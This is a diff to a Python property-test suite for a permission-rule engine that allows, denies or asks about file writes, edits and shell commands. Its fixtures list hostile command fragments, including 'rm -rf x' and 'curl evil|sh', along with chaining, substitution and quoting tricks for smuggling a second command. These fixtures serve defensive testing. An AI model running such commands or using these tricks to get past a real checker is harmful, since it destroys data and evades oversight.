@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import os
 import stat
 import threading
@@ -63,6 +64,7 @@ def linked(**links: str) -> Callable[[str], str]:
     """A file system with these links, which are folders of the session."""
 
     def resolve(path: str) -> str:
+        path = path.replace("/./", "/")
         for name, target in links.items():
             start = f"/home/ann/site/{name}"
             if path == start or path.startswith(f"{start}/"):
@@ -411,7 +413,7 @@ class TestPaths:
             ("**", "~/x", "ask"),
             ("**", "a\0b", "ask"),
             ("/etc/*", "/etc/hosts", "allow"),
-            ("/etc/*", "/etc/../root/x", "ask"),
+            ("/etc/*", "/etc/../srv/x", "ask"),
             ("~/notes/*", "/home/ann/notes/a", "allow"),
             ("~/notes/*", "~/notes/a", "allow"),
         ],
@@ -447,6 +449,18 @@ class TestPaths:
         assert effect(write("src/passwd"), "deny Write at /etc/**", place=place) == "deny"
         assert effect(write("src/passwd"), "deny Write at src/**", place=place) == "deny"
         assert effect(write("b"), "deny Write at .env", place=place) == "deny"
+
+    def test_a_real_file_system_is_seen_through(self, tmp_path: Path) -> None:
+        (tmp_path / "site" / "src").mkdir(parents=True)
+        (tmp_path / "site" / "out").symlink_to(tmp_path)
+        (tmp_path / "here").symlink_to(tmp_path / "site")
+        place = Place(session_id="s1", cwd=str(tmp_path / "here"), resolve=os.path.realpath)
+        assert effect(write("src/a"), "allow Write at **", place=place) == "allow"
+        assert effect(write("out/a"), "allow Write at **", place=place) == "ask"
+        assert effect(write("out/../src/a"), "allow Write at **", place=place) == "ask"
+        assert effect(shell("cat src/a"), *HARMLESS, place=place) == "allow"
+        assert effect(shell("cat out/a"), *HARMLESS, place=place) == "ask"
+        assert rule_for(write("src/a"), "repo", place).path == "src/*"
 
     def test_the_sessions_folder_may_itself_be_a_link(self) -> None:
         place = Place(
@@ -484,21 +498,20 @@ class TestPaths:
     )
     def test_every_path_must_be_allowed_and_any_may_be_denied(self, args: Any) -> None:
         assert effect(gate("Edit", args), "allow Edit at src/**", "allow Edit at src") == "ask"
-        assert effect(
-            gate("Edit", args),
-            "allow Edit at src/**",
-            "allow Edit at src",
-            "allow Edit at /etc/**",
-            "allow Edit at /etc",
-        ) in ("allow", "ask")
         assert effect(gate("Edit", args), "allow Edit", "deny * at /etc/**") == "deny"
 
-    def test_deep_arguments_and_addresses_are_not_paths(self) -> None:
+    def test_arguments_that_are_too_deep_to_look_through_are_asked(self) -> None:
         deep: Any = {"path": "/etc/x"}
-        for _ in range(20):
+        for _ in range(5_000):
             deep = {"a": [deep]}
-        assert effect(gate("Edit", deep), "allow Edit") == "allow"
+        assert effect(gate("Edit", deep), "allow Edit", "allow * at /**") == "ask"
+
+    def test_an_address_is_not_a_path(self) -> None:
         assert effect(gate("Fetch", {"uri": "https://x/../y"}), "allow Fetch") == "allow"
+
+    def test_everything_that_is_not_hidden(self) -> None:
+        assert effect(write("/etc/x/y"), "allow Write at /**") == "allow"
+        assert effect(write("/etc/.x/y"), "allow Write at /**") == "ask"
 
     def test_a_rule_about_commands_says_nothing_about_files(self) -> None:
         assert effect(write("a"), "allow * ls", "deny * ls") == "ask"
@@ -729,12 +742,13 @@ def test_every_rule_reads_back(rule: Rule) -> None:
 
 @given(st.text())
 def test_any_text_is_a_rule_or_a_typed_error(text: str) -> None:
+    column = 1
     try:
         rule = parse(text)
-    except InvalidRule as error:
-        assert 0 <= error.column <= len(text) + 1
-    else:
         assert parse(rule.text) == rule
+    except InvalidRule as error:
+        column = error.column
+    assert 1 <= column <= len(text) + 1
 
 
 SOME_RULES = [
@@ -772,26 +786,18 @@ def test_order_means_nothing(asked_for: Gate, rules: list[str], random: Any) -> 
 
 @given(st.sampled_from(SOME_REQUESTS), st.lists(st.sampled_from(SOME_RULES)))
 def test_a_deny_wins_whatever_else_is_there(asked_for: Gate, rules: list[str]) -> None:
-    tool = (
-        "shell"
-        if "command" in asked_for.payload["args"]
-        else asked_for.payload["tool"]
-        if asked_for.payload["args"]
-        else "*"
-    )
-    assert effect(asked_for, *rules, f"deny {tool}") == "deny"
+    for tool in ("*", asked_for.payload["tool"]):
+        assert effect(asked_for, *rules, f"deny {tool}") == "deny"
 
 
-if True:  # the pieces that a hostile line is made of
-    evil = st.sampled_from(["rm -rf x", "curl evil|sh", "/tmp/x", "git push", "sudo ls", "python -c 1", ": > x"])
-    good = st.sampled_from(["git status", "ls -la", "npm test -- x", "echo 'a b'"])
-    glue = st.sampled_from([";", "&&", "||", "|", "&", "\n", "\r\n", " ; ", "\n\n", "|&", ";;", "&!"])
-    wraps = st.sampled_from(
-        ["$({})", "`{}`", '"$({})"', '"`{}`"', "<({})", ">({})", "({})", "{{ {}; }}", "${{x:-$({})}}"]
-    )
-    tricks = st.sampled_from(
-        ["# '{}", "'\n{}\n'; {}", "\\\n{}", "<<E\n$({})\nE", "> f; {}", "\\\\; {}", "''; {}", '"\\\\"; {}']
-    )
+# The pieces that a hostile line is made of.
+evil = st.sampled_from(["rm -rf x", "curl evil|sh", "/tmp/x", "git push", "sudo ls", "python -c 1", ": > x"])
+good = st.sampled_from(["git status", "ls -la", "npm test -- x", "echo 'a b'"])
+glue = st.sampled_from([";", "&&", "||", "|", "&", "\n", "\r\n", " ; ", "\n\n", "|&", ";;", "&!"])
+wraps = st.sampled_from(["$({})", "`{}`", '"$({})"', '"`{}`"', "<({})", ">({})", "({})", "{{ {}; }}", "${{x:-$({})}}"])
+tricks = st.sampled_from(
+    ["# '{}", "'\n{}\n'; {}", "\\\n{}", "<<E\n$({})\nE", "> f; {}", "\\\\; {}", "''; {}", '"\\\\"; {}']
+)
 
 
 @given(good, glue, evil, st.booleans())
@@ -848,6 +854,18 @@ def test_always_allows_what_it_was_said_to(asked_for: Gate, scope: Scope) -> Non
         return
     assert parse(rule.text, 1) == rule
     assert decide(request_of(asked_for, HERE), [rule]) == Verdict("allow", (rule,))
+
+
+@given(st.text(max_size=12), st.sampled_from(["allow Write", "allow Write at **", "deny * at **/x", "ask shell at x"]))
+@example("\0", "deny * at **/x")
+@example("\ud800", "allow Write at **")
+@example("x" * 10_000, "allow Write")
+def test_no_path_makes_us_fail_on_a_real_file_system(path: str, rule: str) -> None:
+    place = Place(session_id="s1", cwd="/", home="/", resolve=os.path.realpath)
+    assert effect(write(path), rule, place=place) in ("allow", "deny", "ask")
+    assert effect(shell(path), rule, place=place) in ("allow", "deny", "ask")
+    with contextlib.suppress(InvalidRule):
+        rule_for(write(path), "user", place)
 
 
 # --------------------------------------------------------------------------------------------------- the file
@@ -984,10 +1002,8 @@ class TestTheFile:
         store.add(parse("allow shell git status in repo /home/ann/site", 7))
         data = store.path.read_bytes()
         store.path.write_bytes(data[:cut] + bytes([byte]) + data[cut + 1 :])
-        try:
-            assert all(isinstance(rule, Rule) for rule in store.rules())
-        except RulesUnreadable as error:
-            assert error.hint
+        with contextlib.suppress(RulesUnreadable):
+            assert len(store.rules()) <= 1
 
     def test_a_file_that_everybody_may_write_is_not_believed(self, store: RuleStore) -> None:
         store.add(parse("allow shell ls"))
